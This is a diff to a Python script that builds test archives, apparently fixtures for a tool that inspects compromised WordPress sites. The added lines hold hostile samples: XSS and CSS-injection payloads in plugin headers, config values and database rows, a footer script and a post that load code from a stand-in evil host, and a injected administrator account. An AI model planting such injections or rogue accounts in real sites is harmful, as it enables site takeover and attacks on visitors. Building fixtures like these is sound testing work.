@@ -52,6 +52,19 @@ with zipfile.ZipFile(os.path.join(OUT, "hostile-names.zip"), "w") as z:
     z.writestr("public_html/invoice\u202egpj.php", "x")
     z.writestr("public_html/wp-includes/version.php", "<?php $wp_version = '<b>6.4</b>';")
     z.writestr("public_html/wp-content/plugins/x/x.php", "<?php /* Plugin Name: <img src=x onerror=\"document.title='pwned'\">\nVersion: <script>1</script> */")
+    # CSS injection in a plugin name, markup in a config secret, in file contents (shown as
+    # excerpts) and in SQL rows (accounts, injected posts).
+    z.writestr("public_html/wp-content/plugins/y/y.php", "<?php\n/*\n * Plugin Name: </style><style>body{display:none}</style>\n * Version: 1\u202e2\n */\n")
+    z.writestr("public_html/wp-config.php", "<?php\ndefine( 'DB_NAME', 'site' );\ndefine( 'DB_USER', '<b>u</b>' );\ndefine( 'DB_PASSWORD', '<script>document.title=1</script>' );\n")
+    z.writestr("public_html/wp-content/themes/t/footer.php", "<?php wp_footer(); ?>\n<script>document.title='pwned';var s=document.createElement('script');s.src='https://evil.example.invalid/x.js';document.body.appendChild(s)</script><style>body{display:none}</style>\n")
+    z.writestr("backup/site.sql", "\n".join([
+        "CREATE TABLE `wp_users` (`ID` bigint(20), `user_login` varchar(60), `user_pass` varchar(255), `user_email` varchar(100), `user_registered` datetime);",
+        "INSERT INTO `wp_users` VALUES (1,'jane','$P$Bnotreal','jane@example.com','2021-04-12 08:00:00'),(7,'<img src=x onerror=\\\"document.title=\\'pwned\\'\\\">','$P$Bnotreal2','javascript:alert(1)','2024-03-05 10:22:00');",
+        "CREATE TABLE `wp_usermeta` (`umeta_id` bigint(20), `user_id` bigint(20), `meta_key` varchar(255), `meta_value` longtext);",
+        "INSERT INTO `wp_usermeta` VALUES (1,1,'wp_capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}'),(9,7,'wp_capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}');",
+        "CREATE TABLE `wp_posts` (`ID` bigint(20), `post_title` text, `post_content` longtext);",
+        "INSERT INTO `wp_posts` VALUES (12,'<script>document.title=\\'pwned\\'</script>','<p>Hi</p><script src=\\\"https://evil.example.invalid/j.js\\\"></script><iframe src=\\\"javascript:alert(1)\\\"></iframe>');",
+    ]) + "\n")
 
 with open(os.path.join(OUT, "not-an-archive.txt"), "w") as f:
     f.write("Dear support, my site is hacked. Regards, Jane\n" * 20)
